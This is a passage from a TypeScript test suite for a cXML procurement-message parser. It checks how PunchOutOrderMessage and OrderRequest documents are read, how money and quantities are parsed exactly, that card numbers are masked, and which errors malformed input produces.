      '<LeadTime>14</LeadTime><Extrinsic name="colour">red</Extrinsic></ItemDetail>' +
      `<Shipping trackingDomain="UPS" trackingId="1Z"><Money currency="USD">4.00</Money><Description xml:lang="en">Ground</Description></Shipping>` +
      `<Tax><Money currency="USD">21.00</Money><Description xml:lang="en">VAT</Description>` +
      `<TaxDetail category="vat" percentageRate="19" purpose="tax"><TaxableAmount>${MONEY('104.99', 'USD')}</TaxableAmount><TaxAmount>${MONEY('21.00', 'USD')}</TaxAmount><Description xml:lang="en">full rate</Description></TaxDetail></Tax>` +
      '<Comments xml:lang="en">gift wrap</Comments><Extrinsic name="line">x</Extrinsic></ItemIn>';
    const xml = envelope(
      '<Message><PunchOutOrderMessage><BuyerCookie> cookie </BuyerCookie>' +
        '<PunchOutOrderMessageHeader operationAllowed="edit" quoteStatus="pending">' +
        `<Total>${MONEY('235.98', 'USD')}</Total>` +
        '<ShipTo><Address><Name xml:lang="en">Dock</Name></Address></ShipTo>' +
        `<Shipping><Money currency="USD">4.00</Money><Description xml:lang="en">Ground</Description></Shipping>` +
        `<Tax><Money currency="USD">21.00</Money><Description xml:lang="en">VAT</Description></Tax>` +
        '<SupplierOrderInfo orderID="SO-9"/></PunchOutOrderMessageHeader>' +
        `${item}</PunchOutOrderMessage></Message>`,
    );
    const result = readCxml(xml);
    const p = payloadOf(result, 'PunchOutOrderMessage');
    assert.equal(p.buyerCookie, ' cookie ');
    assert.equal(p.operationAllowed, 'edit');
    assert.equal(p.quoteStatus, 'pending');
    assert.equal(p.total.amount.toString(), '235.98');
    assert.equal(p.total.currency, 'USD');
    assert.deepEqual(p.shipTo, { name: 'Dock' });
    assert.equal(p.shipping?.description, 'Ground');
    assert.equal(p.tax?.money.amount.toString(), '21');
    assert.equal(p.supplierOrderId, 'SO-9');
    assert.equal(p.status, undefined);
    const line = p.items[0];
    assert.ok(line);
    assert.equal(line.quantity.toString(), '2');
    assert.equal(line.lineNumber, 1);
    assert.equal(line.parentLineNumber, 0);
    assert.equal(line.itemType, 'item');
    assert.equal(line.itemClassification, 'material');
    assert.deepEqual(line.itemID, { supplierPartID: 'SKU-1', supplierPartAuxiliaryID: 'cart:7' });
    const d = line.itemDetail;
    assert.equal(d.unitPrice.raw, '104.99');
    assert.deepEqual(d.descriptions, [
      { lang: 'en', text: 'Excelsior desk chair', shortName: 'Chair' },
      { lang: 'de', text: 'Schreibtischstuhl' },
    ]);
    assert.equal(d.unitOfMeasure, 'EA');
    assert.equal(d.priceBasisQuantity?.quantity.toString(), '2');
    assert.equal(d.priceBasisQuantity?.conversionFactor.toString(), '0.5');
    assert.equal(d.priceBasisQuantity?.unitOfMeasure, 'BX');
    assert.deepEqual(d.classifications, [
      { domain: 'UNSPSC', code: '56101504' },
      { domain: 'eCLASS', code: '24-38-01-01' },
    ]);
    assert.equal(d.manufacturerPartID, 'MP-1');
    assert.equal(d.manufacturerName, 'Maker');
    assert.equal(d.url, 'https://shop.example/p/1');
    assert.equal(d.leadTime, 14);
    assert.deepEqual(d.extrinsics, [{ name: 'colour', value: 'red' }]);
    assert.equal(line.shipping?.trackingDomain, 'UPS');
    assert.equal(line.shipping?.trackingId, '1Z');
    const detail = line.tax?.details[0];
    assert.equal(detail?.category, 'vat');
    assert.equal(detail?.percentageRate?.toString(), '19');
    assert.equal(detail?.purpose, 'tax');
    assert.equal(detail?.taxableAmount?.amount.toString(), '104.99');
    assert.equal(detail?.taxAmount.amount.toString(), '21');
    assert.equal(detail?.description, 'full rate');
    assert.deepEqual(line.comments, { lang: 'en', text: 'gift wrap', attachmentUrls: [] });
    assert.deepEqual(line.extrinsics, [{ name: 'line', value: 'x' }]);
    assert.deepEqual(result.warnings, []);
  });

  it('reads Message/Status 204 (user cancelled an edit) with no ItemIn', () => {
    const result = readCxml(poom('', ' operationAllowed="edit"', '', '<Status code="204" text="No Content">cancelled by user</Status>'));
    const p = result.envelope.payload as PunchOutOrderMessage;
    assert.deepEqual(p.status, { code: 204, text: 'No Content', detail: 'cancelled by user' });
    assert.deepEqual(p.items, []);
  });

  it('requires operationAllowed and refuses unknown values', () => {
    refuses(poom('', ''), 406, /PunchOutOrderMessageHeader: attribute operationAllowed is required/);
    refuses(poom('', ' operationAllowed="delete"'), 400, /operationAllowed "delete"/);
    refuses(poom('', ' operationAllowed="edit" quoteStatus="maybe"'), 400, /quoteStatus "maybe" \(expected final, pending\)/);
  });

  it('requires ItemDetail and ItemID on an ItemIn', () => {
    refuses(poom('<ItemIn quantity="1"><ItemID><SupplierPartID>A</SupplierPartID></ItemID></ItemIn>'), 406, /ItemIn: element ItemDetail is required/);
    refuses(poom(`<ItemIn quantity="1">${itemDetail()}</ItemIn>`), 406, /ItemIn: element ItemID is required/);
  });

  it('infers an empty TaxAmount from the Tax when it is the only TaxDetail (Würth), drops it otherwise', () => {
    const tax = (details: string) =>
      `<ItemIn quantity="1"><ItemID><SupplierPartID>A</SupplierPartID></ItemID>${itemDetail()}<Tax>${MONEY('7.88')}<Description xml:lang="en">VAT</Description>${details}</Tax></ItemIn>`;
    const empty = '<TaxDetail category="FullTax" percentageRate="0.210"><TaxAmount><Money currency=""/></TaxAmount></TaxDetail>';
    const one = readCxml(poom(tax(empty)));
    const d = payloadOf(one, 'PunchOutOrderMessage').items[0]?.tax?.details;
    assert.equal(d?.length, 1);
    assert.equal(d?.[0]?.taxAmount.amount.toString(), '7.88');
    assert.equal(d?.[0]?.taxAmount.currency, 'EUR');
    assert.equal(d?.[0]?.percentageRate?.toString(), '0.21');
    assert.match(one.warnings[0]?.message ?? '', /TaxAmount is empty; the Tax amount 7.88 EUR is used/);
    const two = readCxml(poom(tax(empty + empty)));
    assert.deepEqual(payloadOf(two, 'PunchOutOrderMessage').items[0]?.tax?.details, []);
    assert.equal(two.warnings.length, 2);
  });
});

describe('OrderRequest', () => {
  const header =
    `<ShipTo><Address addressID="S1"><Name xml:lang="en">Dock 1</Name></Address></ShipTo>` +
    `<Shipping><Money currency="EUR">5.00</Money><Description xml:lang="en">Freight</Description></Shipping>` +
    `<Tax><Money currency="EUR">1.90</Money><Description xml:lang="en">VAT</Description></Tax>` +
    `<Payment><PCard number="4111 1111 1111 1234" expiration="2027-03" name="J. Doe"/></Payment>` +
    `<PaymentTerm payInNumberOfDays="30"/>` +
    `<Contact role="buyer"><Name xml:lang="en">Joe</Name><Email>joe@buyer.example</Email></Contact>` +
    `<Comments xml:lang="en">Please call first<Attachment><URL> cid:note@buyer </URL></Attachment></Comments>` +
    `<DocumentReference payloadID="prev-1@buyer"/>` +
    `<SupplierOrderInfo orderID="SO-1"/>` +
    `<Extrinsic name="legacy_po">LP-1</Extrinsic>`;
  const attrs =
    ' orderID="PO-7" orderDate="2026-01-31" type="update" orderVersion="2" orderType="regular" requisitionID="REQ-1" requestedDeliveryDate="2026-02-15"';

  it('reads the header with every modelled field', () => {
    const result = readCxml(orderRequest(header, itemOut(), attrs));
    const h = payloadOf(result, 'OrderRequest').header;
    assert.equal(h.orderID, 'PO-7');
    assert.deepEqual(h.orderDate, { raw: '2026-01-31', dateOnly: '2026-01-31' });
    assert.equal(h.type, 'update');
    assert.equal(h.orderVersion, 2);
    assert.equal(h.orderType, 'regular');
    assert.equal(h.requisitionID, 'REQ-1');
    assert.deepEqual(h.requestedDeliveryDate, { raw: '2026-02-15', dateOnly: '2026-02-15' });
    assert.equal(h.total.amount.toString(), '10');
    assert.deepEqual(h.shipTo, { name: 'Dock 1', addressID: 'S1' });
    assert.deepEqual(h.billTo, { name: 'Acme' });
    assert.equal(h.shipping?.money.amount.toString(), '5');
    assert.equal(h.tax?.description, 'VAT');
    assert.deepEqual(h.payment, { maskedNumber: '************1234', expiration: '2027-03', name: 'J. Doe' });
    assert.equal(h.paymentTermDays, 30);
    assert.deepEqual(h.contacts, [{ role: 'buyer', name: 'Joe', email: 'joe@buyer.example' }]);
    assert.deepEqual(h.comments, [{ lang: 'en', text: 'Please call first', attachmentUrls: ['cid:note@buyer'] }]);
    assert.equal(h.documentReference, 'prev-1@buyer');
    assert.equal(h.supplierOrderId, 'SO-1');
    assert.deepEqual(h.extrinsics, [{ name: 'legacy_po', value: 'LP-1' }]);
    assert.deepEqual(result.warnings, []);
  });

  it('never keeps the full card number anywhere in the result', () => {
    const result = readCxml(orderRequest(header, itemOut(), attrs));
    assert.doesNotMatch(JSON.stringify(result), /4111/);
    assert.equal(maskCardNumber('1234567890123456'), '************3456');
    assert.equal(maskCardNumber('4111-1111-1111-1234'), '************1234');
    assert.equal(maskCardNumber('123'), '***');
  });

  it('reads order lines: attributes, ItemID, ShipTo, Shipping, Tax, Distribution, Contact, Comments', () => {
    const line =
      '<ItemOut quantity="3" lineNumber="5" requestedDeliveryDate="2026-02-01T10:00:00+01:00" operation="delete">' +
      '<ItemID><SupplierPartID>SKU-5</SupplierPartID><SupplierPartAuxiliaryID>cart-1:5</SupplierPartAuxiliaryID><BuyerPartID>B5</BuyerPartID></ItemID>' +
      itemDetail('2.50') +
      '<ShipTo><Address><Name xml:lang="en">Site B</Name></Address></ShipTo>' +
      `<Shipping><Money currency="EUR">1.00</Money><Description xml:lang="en">Express</Description></Shipping>` +
      `<Tax><Money currency="EUR">0.48</Money><Description xml:lang="en">VAT 19%</Description></Tax>` +
      `<Distribution><Accounting name="DistributionCharge"><Segment type="Cost Center" id="2323" description="Sales"/></Accounting><Charge>${MONEY('5.00')}</Charge></Distribution>` +
      `<Distribution><Accounting name="Split"><AccountingSegment id="4711"><Name xml:lang="en">G/L Account</Name><Description xml:lang="en">Travel</Description></AccountingSegment></Accounting><Charge>${MONEY('2.50')}</Charge></Distribution>` +
      '<Contact role="endUser"><Name xml:lang="en">Ann</Name></Contact>' +
      '<Comments>first</Comments><Comments xml:lang="de">zweite</Comments>' +
      '</ItemOut>';
    const adHoc = '<ItemOut quantity="1" lineNumber="6" isAdHoc="yes"><ItemID><SupplierPartID/></ItemID></ItemOut>';
    const result = readCxml(orderRequest('', line + adHoc));
    const [item, free] = payloadOf(result, 'OrderRequest').items;
    assert.ok(item && free);
    assert.equal(item.quantity.toString(), '3');
    assert.equal(item.lineNumber, 5);
    assert.equal(item.requestedDeliveryDate?.instant?.toISOString(), '2026-02-01T09:00:00.000Z');
    assert.equal(item.isAdHoc, false);
    assert.equal(item.operation, 'delete');
    assert.deepEqual(item.itemID, { supplierPartID: 'SKU-5', supplierPartAuxiliaryID: 'cart-1:5', buyerPartID: 'B5' });
    assert.equal(item.itemDetail?.unitPrice.amount.toString(), '2.5');
    assert.deepEqual(item.shipTo, { name: 'Site B' });
    assert.equal(item.shipping?.description, 'Express');
    assert.equal(item.tax?.money.raw, '0.48');
    assert.equal(item.distributions.length, 2);
    assert.deepEqual(
      item.distributions.map((d) => ({ name: d.accountingName, segments: d.segments, charge: d.charge.raw })),
      [
        { name: 'DistributionCharge', segments: [{ type: 'Cost Center', id: '2323', description: 'Sales' }], charge: '5.00' },
        { name: 'Split', segments: [{ type: 'G/L Account', id: '4711', description: 'Travel' }], charge: '2.50' },
      ],
    );
    assert.deepEqual(item.contacts, [{ role: 'endUser', name: 'Ann' }]);
    assert.deepEqual(item.comments, [
      { text: 'first', attachmentUrls: [] },
      { lang: 'de', text: 'zweite', attachmentUrls: [] },
    ]);
    assert.equal(free.isAdHoc, true);
    assert.equal(free.itemID.supplierPartID, '');
    assert.equal(free.itemDetail, undefined);
  });

  it('refuses a line with neither SupplierPartID nor isAdHoc, naming the line', () => {
    const line = '<ItemOut quantity="1" lineNumber="3"><ItemID><SupplierPartID> </SupplierPartID></ItemID></ItemOut>';
    refuses(orderRequest('', itemOut() + line), 400, /ItemOut\[2\]\/ItemID: line 3 has no SupplierPartID and is not marked isAdHoc="yes"/);
  });

  it('refuses missing required structure with 406 naming the path', () => {
    refuses(orderRequest('', itemOut(), ' orderDate="2026-01-31"'), 406, /^cXML\/Request\/OrderRequest\/OrderRequestHeader: attribute orderID is required$/);
    refuses(orderRequest('', itemOut(), ' orderID="PO-1"'), 406, /OrderRequestHeader: attribute orderDate is required/);
    refuses(orderRequest('', itemOut() + itemOut(' lineNumber="2"')), 406, /^cXML\/Request\/OrderRequest\/ItemOut\[2\]: attribute quantity is required$/);
    refuses(orderRequest('', ''), 406, /OrderRequest: an OrderRequest needs at least one ItemOut/);
    refuses(request('<OrderRequest>' + itemOut() + '</OrderRequest>'), 406, /OrderRequest: element OrderRequestHeader is required/);
    refuses(orderRequest('', '<ItemOut quantity="1"></ItemOut>'), 406, /ItemOut: element ItemID is required/);
    const noTotal = orderRequest().replace(`<Total>${MONEY('10.00')}</Total>`, '');
    refuses(noTotal, 406, /OrderRequestHeader: element Total is required/);
    const noCurrency = orderRequest().replace('<Money currency="EUR">10.00</Money></Total>', '<Money>10.00</Money></Total>');
    refuses(noCurrency, 406, /Total\/Money: attribute currency is required/);
  });

  it('refuses semantically wrong values with 400', () => {
    refuses(orderRequest('', itemOut(), ' orderID="" orderDate="2026-01-31"'), 400, /@orderID: orderID is empty/);
    refuses(orderRequest('', itemOut(), ' orderID="1" orderDate="2026-01-31" type="cancel"'), 400, /@type: unknown type "cancel" \(expected new, update, delete\)/);
    refuses(orderRequest('', itemOut(), ' orderID="1" orderDate="2026-01-31" orderVersion="two"'), 400, /orderVersion "two" is not a whole number/);
    refuses(orderRequest('', itemOut(' quantity="abc"')), 400, /ItemOut@quantity: quantity "abc" is not a decimal number/);
    refuses(orderRequest('', itemOut(' quantity="-1"')), 400, /ItemOut@quantity: quantity "-1" is negative/);
    refuses(orderRequest('', itemOut(' quantity="1" lineNumber="1.5"')), 400, /lineNumber "1.5" is not a whole number/);
    refuses(orderRequest('<PaymentTerm payInNumberOfDays="soon"/>'), 400, /PaymentTerm@payInNumberOfDays: payInNumberOfDays "soon"/);
  });

  it('defaults type to new and reads a bare BillTo-less header with a DTD warning', () => {
    const xml = request(
      `<OrderRequest><OrderRequestHeader orderID="PO-2" orderDate="2026-01-31T10:00:00+01:00"><Total>${MONEY('10.00')}</Total></OrderRequestHeader>${itemOut()}</OrderRequest>`,
    );
    const result = readCxml(xml);
    const h = (result.envelope.payload as OrderRequest).header;
    assert.equal(h.type, 'new');
    assert.equal(h.billTo, undefined);
    assert.deepEqual(result.warnings, [{ path: 'cXML/Request/OrderRequest/OrderRequestHeader/BillTo', message: 'BillTo is required by the DTD; none given' }]);
    refuses(xml, 406, /BillTo is required by the DTD/, { strict: true });
  });

  it('reads a 10,000-line (~5 MB) order completely', () => {
    const big = buildLargeOrderRequest(10_000);
    assert.ok(Buffer.byteLength(big.xml) > 5_000_000);
    const result = readCxml(big.xml);
    const order = payloadOf(result, 'OrderRequest');
    assert.equal(order.items.length, 10_000);
    assert.equal(order.header.orderID, 'PO-BENCH-10000');
    assert.equal(order.header.total.amount.toFixed(2), big.total);
    let total = new Decimal(0);
    let quantity = new Decimal(0);
    for (const item of order.items) {
      assert.ok(item.itemDetail);
      total = total.plus(item.quantity.times(item.itemDetail.unitPrice.amount));
      quantity = quantity.plus(item.quantity);
    }
    assert.equal(total.toFixed(2), big.total);
    assert.equal(quantity.toNumber(), big.quantity);
    const last = order.items[9_999];
    assert.equal(last?.lineNumber, 10_000);
    assert.equal(last?.itemID.supplierPartAuxiliaryID, 'cart-42:line-10000');
    assert.equal(last?.itemDetail?.descriptions[0]?.text, 'Sechskant & Mutter 10000');
    assert.deepEqual(result.warnings, []);
  });
});

describe('money and quantities', () => {
  const withPrice = (price: string) =>
    poom(`<ItemIn quantity="1"><ItemID><SupplierPartID>A</SupplierPartID></ItemID>${itemDetail(price)}</ItemIn>`);
  const priceOf = (price: string, options?: ReadOptions) =>
    readCxml(withPrice(price), options);

  it('reads decimals exactly, never through floats', () => {
    const r = priceOf('0.1000000000000000000001');
    assert.equal(payloadOf(r, 'PunchOutOrderMessage').items[0]?.itemDetail.unitPrice.amount.toFixed(), '0.1000000000000000000001');
    assert.equal(payloadOf(priceOf('.34'), 'PunchOutOrderMessage').items[0]?.itemDetail.unitPrice.amount.toString(), '0.34');
    assert.equal(payloadOf(priceOf('-5.00'), 'PunchOutOrderMessage').items[0]?.itemDetail.unitPrice.amount.toString(), '-5');
    assert.equal(payloadOf(priceOf(' 12 '), 'PunchOutOrderMessage').items[0]?.itemDetail.unitPrice.raw, '12');
  });

  it("accepts Coupa's decimal comma (1505,0) with a warning, refuses it in strict mode", () => {
    const result = priceOf('1505,0');
    const price = payloadOf(result, 'PunchOutOrderMessage').items[0]?.itemDetail.unitPrice;
    assert.equal(price?.amount.toString(), '1505');
    assert.equal(price?.raw, '1505,0');
    assert.deepEqual(result.warnings, [
      {
        path: 'cXML/Message/PunchOutOrderMessage/ItemIn/ItemDetail/UnitPrice/Money',
        message: 'amount "1505,0" uses a decimal comma; read as 1505.0',
      },
    ]);
    refuses(withPrice('1505,0'), 400, /decimal comma/, { strict: true });
  });

  it('refuses a comma that could be a thousands separator', () => {
    refuses(withPrice('1,505'), 400, /amount "1,505" is ambiguous/);
  });

  it('refuses anything else that is not a plain decimal, naming path and value', () => {
    for (const bad of ['abc', '1,505.00', '1.505,00', '$5', '5 EUR', '1e3', '12.3.4', 'NaN']) {
      refuses(withPrice(bad), 400, new RegExp(`^cXML/Message/PunchOutOrderMessage/ItemIn/ItemDetail/UnitPrice/Money: amount "${bad.replace(/[$.]/g, '\\$&')}" is not a decimal number$`));
    }
    refuses(withPrice(''), 400, /UnitPrice\/Money: amount is empty/);
  });

  it('cuts long sender values in messages so they cannot flood logs', () => {
    const err = refuses(withPrice('9'.repeat(5000) + 'x'), 400, /amount "9{61}\.\.\." is not a decimal number/);
    assert.ok(err.message.length < 200);
    const entity = refuses(setupRequest(`<BuyerCookie>&${'a'.repeat(5000)};</BuyerCookie>`), 406, /&a{37}\.\.\.; is not allowed/);
    assert.ok(entity.message.length < 250);
  });

  it('reads quantities likewise, a decimal comma included', () => {
    const result = readCxml(poom(`<ItemIn quantity="2,5"><ItemID><SupplierPartID>A</SupplierPartID></ItemID>${itemDetail()}</ItemIn>`));
    assert.equal(payloadOf(result, 'PunchOutOrderMessage').items[0]?.quantity.toString(), '2.5');
    assert.match(result.warnings[0]?.message ?? '', /quantity "2,5" uses a decimal comma/);
    refuses(poom(`<ItemIn quantity="two"><ItemID><SupplierPartID>A</SupplierPartID></ItemID>${itemDetail()}</ItemIn>`), 400, /ItemIn@quantity: quantity "two"/);
  });
});

describe('statuses and payloads Koppel does not model', () => {
  it('reads a bare Response/Status', () => {
    const result = readCxml(envelope('<Response><Status code="400" text="Bad Request" xml:lang="en">Line 3 unknown</Status></Response>', { header: '' }));
    assert.deepEqual(result.envelope.payload as StatusResponse, {
      kind: 'Status',
      status: { code: 400, text: 'Bad Request', detail: 'Line 3 unknown', lang: 'en' },
    });
  });

  it('refuses a Status without a numeric code', () => {
    refuses(envelope('<Response><Status text="OK"/></Response>', { header: '' }), 406, /Response\/Status: attribute code is required/);
    refuses(envelope('<Response><Status code="OK" text="OK"/></Response>', { header: '' }), 400, /status code "OK" is not a whole number/);
  });

  it('names other requests, messages and responses, with their Status', () => {
    const update = readCxml(request('<StatusUpdateRequest><DocumentReference payloadID="po-1"/><Status code="200" text="OK">Shipped</Status></StatusUpdateRequest>'));
    assert.deepEqual(update.envelope.payload as OtherPayload, {
      kind: 'Other',
      wrapper: 'Request',
      name: 'StatusUpdateRequest',
      status: { code: 200, text: 'OK', detail: 'Shipped' },
    });
    const quote = readCxml(request('<QuoteRequest><QuoteRequestHeader requestID="Q-1"/></QuoteRequest>'));
    assert.deepEqual(quote.envelope.payload, { kind: 'Other', wrapper: 'Request', name: 'QuoteRequest' });
    assert.deepEqual(quote.warnings, []);
    const message = readCxml(envelope('<Message><SubscriptionChangeMessage/></Message>'));
    assert.deepEqual(message.envelope.payload, { kind: 'Other', wrapper: 'Message', name: 'SubscriptionChangeMessage' });
    const response = readCxml(envelope('<Response><Status code="200" text="OK"/><GetPendingResponse/></Response>', { header: '' }));
    assert.deepEqual(response.envelope.payload, { kind: 'Other', wrapper: 'Response', name: 'GetPendingResponse', status: { code: 200, text: 'OK' } });
  });
});
